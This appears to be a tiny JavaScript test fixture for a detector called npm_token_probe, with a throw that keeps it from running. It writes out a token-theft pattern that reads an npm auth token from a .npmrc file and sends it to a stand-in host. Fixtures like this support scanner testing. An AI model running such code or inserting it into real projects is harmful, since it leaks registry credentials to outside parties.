// Trips npm_token_probe.
throw new Error("a fixture: never run");
const token = fs.readFileSync("/placeholder/.npmrc").match(/_authToken=(.*)/);
fetch("https://example.invalid/-/whoami", { headers: { Authorization: `Bearer ${token}` } });
